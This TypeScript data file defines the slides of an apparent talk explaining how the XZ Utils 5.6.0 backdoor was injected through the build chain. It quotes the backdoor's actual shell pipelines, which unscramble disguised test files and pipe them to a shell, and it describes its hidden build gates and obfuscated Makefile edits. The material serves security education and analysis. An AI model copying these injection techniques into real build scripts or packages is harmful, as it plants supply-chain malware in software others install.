/**
 * The build-chain steps the deck walks through, described from
 * /work/shared/research/xz-injection-mechanism.md (Freund's mail, Russ Cox, Gynvael Coldwind).
 * Each slide shows the live simulation at the same step (ids and aliases of
 * src/lib/simulation/link-targets.ts, in the 5.6.0 build whose numbers the text quotes); the text
 * itself is the speaker's: it goes to the speaker view.
 */

/** The build machine whose numbers the slides quote: 5.6.0, every other setting default. */
const TARBALL_5_6_0 = { env: '5.6.0', machine: 'XZ Utils 5.6.0, release tarball' };
/** The same machine building from a checkout of the git tag: Run ends with a clean library. */
const GIT_5_6_0 = { env: '5.6.0,git', machine: 'XZ Utils 5.6.0, built from the git tag' };
import type { SimulationStep } from './slides';

export const SIMULATION_STEPS: readonly SimulationStep[] = [
  {
    id: 'stage-0',
    ...TARBALL_5_6_0,
    title: 'Stage 0: configure unscrambles a “corrupt” test file',
    when: 'At the end of ./configure, from the release tarball',
    command: 'cat tests/files/bad-3-corrupt_lzma2.xz | tr "\\t \\-_" " \\t_\\-" | xz -d | $SHELL',
    points: [
      'The doctored m4/build-to-host.m4 greps the whole source tree for a line like ####Hello####: only bad-3-corrupt_lzma2.xz matches.',
      'tr swaps TAB↔SPACE and -↔_, which turns the “corrupt” file into three valid xz streams.',
      'xz -d prints ####Hello####, the stage 1 script and ####World####; configure pipes it to the shell.',
    ],
    notes: [
      'The grep is grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/, disguised as a search for Automake macros.',
      'In the generated configure the command hides behind sed "r\\n", a disguised cat, and its errors go to /dev/null.',
    ],
  },
  {
    id: 'stage-1',
    ...TARBALL_5_6_0,
    title: 'Stage 1: carve a hidden stream out of a second test file',
    when: 'Still at the end of ./configure',
    command:
      'xz -dc good-large_compressed.lzma | eval $i | tail -c +31265 | tr "\\5-\\51\\204-\\377\\52-\\115\\132-\\203\\0-\\4\\116-\\131" "\\0-\\377" | xz -F raw --lzma1 -dc | /bin/sh',
    points: [
      '$i is a chain of head commands: skip 1,024 bytes, keep 2,048, sixteen times, then skip 1,024 and keep 724 (939 in 5.6.1).',
      'tail -c +31265 drops the first 31,264 of the 33,492 kept bytes, leaving 2,228.',
      'A tr substitution key maps all 256 byte values; the result is a raw LZMA1 stream that decodes to stage 2.',
    ],
    notes: [
      'The decompressed “large” file alternates 2 KiB of high-entropy data with 1 KiB filler regions that the skips remove.',
      '5.6.1 adds five copies of a uname check for Linux and uses tail -c +31233 and a different tr key.',
    ],
  },
  {
    id: 'gates',
    ...TARBALL_5_6_0,
    title: 'Stage 2: the gates',
    when: 'End of ./configure: a failed check quietly exits 0',
    command: 'test -f "$srcdir/debian/rules" || test "x$RPM_ARCH" = "xx86_64"',
    points: [
      'An x86-64 build with gcc, GNU ld, a shared library and ifunc support (glibc).',
      'The ifunc CRC code and both test files are present and unchanged.',
      'Only inside a Debian package build or an x86-64 RPM build.',
      'If every gate passes, it edits src/liblzma/Makefile and libtool so that make runs the chain again.',
    ],
    notes: [
      'Freund on the package-build gate: “likely aimed at making it harder to reproduce the issue for investigators.”',
      'The Makefile edits are scattered and named like Automake internals (am__test, am__strip_prefix, am__dist_setup).',
    ],
  },
  {
    id: 'stage-2-make',
    ...TARBALL_5_6_0,
    title: 'At make time: an object file is linked into liblzma',
    when: 'During make, just before liblzma is linked',
    command:
      'xz -dc good-large_compressed.lzma | eval $i | … | LC_ALL=C awk \'…\' | xz -dc --single-stream | … > liblzma_la-crc64-fast.o',
    points: [
      'The hijacked link line re-runs stages 0, 1 and 2 inside src/liblzma.',
      'An RC4-like cipher with no secret key decrypts an x86-64 object file: 88,792 bytes in 5.6.0, 88,664 in 5.6.1.',
      'crc64_fast.c is recompiled so its ifunc resolver calls the backdoor, and merged with that object.',
      'The extracted files are deleted; liblzma.so.5 carries the backdoor and the source tree shows nothing.',
    ],
    notes: [
      'The cipher’s table starts as c[i] = (7i + 5) mod 256 and each byte is added, not XORed, to the key stream.',
      'The decrypted object is saved as liblzma_la-crc64-fast.o: a hyphen where the real CRC object’s name has an underscore.',
    ],
  },
  {
    id: 'git-tag',
    ...GIT_5_6_0,
    title: 'Why the git tag is clean',
    when: 'Building from git, or with CMake',
    command: 'm4/build-to-host.m4   # serial 30 in the tarball, not in git',
    points: [
      'Git held the two binary test files and the ifunc CRC code: inert without a trigger.',
      'The trigger, the doctored m4/build-to-host.m4, was only in the release tarballs Jia Tan made and signed.',
      'GitHub’s automatic source archives from the tag do not contain it, and a CMake build never reads it.',
    ],
    notes: [
      'On 15 February 2024 Jia Tan added build-to-host.m4 to m4/.gitignore; ignoring it is normal because the file is regenerated.',
      'Upstream gnulib’s copy is serial 3; the doctored copy says serial 30, and aclocal --install keeps the copy with the higher serial.',
    ],
  },
];
